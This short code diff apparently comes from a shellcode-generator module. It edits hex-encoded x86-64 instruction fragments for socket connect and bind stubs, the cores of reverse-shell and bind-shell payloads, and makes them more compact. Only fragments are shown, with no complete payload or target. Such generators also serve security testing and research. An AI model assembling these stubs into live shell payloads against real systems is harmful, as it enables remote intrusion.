@@ -35,16 +35,18 @@ _X86_END = (
 )
 _X86_CONNECT = (
     *_X86_SOCKET,
-    "488d3517000000",  # lea rsi, [address]
-    "ba10000000",  # mov edx, 16
+    "488d3515000000",  # lea rsi, [address]
+    "6a10",  # push 16
+    "5a",  # pop rdx
     "b82a000000",  # mov eax, 42         connect
     "0f05",  # syscall
     *_X86_END,
 )
 _X86_LISTEN = (
     *_X86_SOCKET,
-    "488d353c000000",  # lea rsi, [address]
-    "ba10000000",  # mov edx, 16
+    "488d353a000000",  # lea rsi, [address]
+    "6a10",  # push 16
+    "5a",  # pop rdx
     "b831000000",  # mov eax, 49         bind
     "0f05",  # syscall
     "85c0",  # test eax, eax
